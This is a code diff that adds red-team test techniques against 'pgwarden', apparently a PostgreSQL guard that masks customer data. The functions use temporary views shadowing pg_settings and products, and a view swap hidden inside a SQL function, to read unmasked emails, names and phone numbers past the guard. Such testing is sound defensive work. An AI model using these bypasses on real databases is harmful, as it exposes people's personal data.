+@technique("rows")
+def t_temp_view_shadow(ctx: Ctx) -> None:
+    """A temporary view named like a harmless relation pgwarden knows (pg_catalog.pg_settings;
+    crm.products through the search_path): pg_temp is searched first for relations, so the
+    server reads the view over crm.customers while pgwarden judges the harmless one. Needs
+    only the TEMPORARY privilege."""
+    c = ctx.connect()
+    ctx.q(c, "CREATE TEMP VIEW pg_settings AS SELECT customer_id::text AS name, "
+             '"Email" || \' \' || "FullName" AS setting FROM crm.customers')  # fmt: skip
+    ctx.q(c, "SELECT name, setting FROM pg_settings")
+    ctx.q(c, "CREATE TEMP VIEW products AS SELECT customer_id::int AS product_id, "
+             "phone AS name FROM crm.customer_phones")  # fmt: skip
+    ctx.q(c, "SELECT product_id, name FROM products")
+
+
+@technique("rows")
+def t_analyst_temp_view_shadow(ctx: Ctx) -> None:
+    """The analyst: the same temporary view shadowing pg_catalog.pg_settings, unmasked."""
+    ctx.out.analyst = True
+    c = ctx.connect(sdb.ANALYST)
+    ctx.q(c, "CREATE TEMP VIEW pg_settings AS SELECT customer_id::text AS name, "
+             '"Email" || \' \' || "FullName" AS setting FROM crm.customers WHERE tier = \'vip\'')  # fmt: skip
+    ctx.q(c, "SELECT name, setting FROM pg_settings")
+
+
+@technique("rows")
+def t_ddl_in_function_swap(ctx: Ctx) -> None:
+    """The view swap committed for good: the CREATE OR REPLACE VIEW is the body of a SQL
+    function of one's own, so no DDL statement passes pgwarden and its catalog is never
+    reloaded. Seconds later, on a new connection, the view still passes as harmless."""
+    c = ctx.connect()
+    ctx.q(
+        c,
+        "CREATE OR REPLACE VIEW scratch.rt2_pv AS SELECT 1::bigint AS id, 'x'::text AS e, 'y'::text AS n",
+    )
+    ctx.q(c, "CREATE OR REPLACE FUNCTION scratch.rt2_pvswap() RETURNS int LANGUAGE sql AS $f$ "
+             "CREATE OR REPLACE VIEW scratch.rt2_pv AS SELECT customer_id AS id, \"Email\" AS e, "
+             "\"FullName\" AS n FROM crm.customers; SELECT 1 $f$")  # fmt: skip
+    time.sleep(2)
+    ctx.q(c, "SELECT id, e, n FROM scratch.rt2_pv WHERE id > 0")
+    ctx.q(c, "SELECT scratch.rt2_pvswap()")
+    time.sleep(5)
+    ctx.q(ctx.connect(), "SELECT id, e, n FROM scratch.rt2_pv WHERE id > 0")
+
+
 # -- the analyst: masked contact data ------------------------------------------------------
 
 
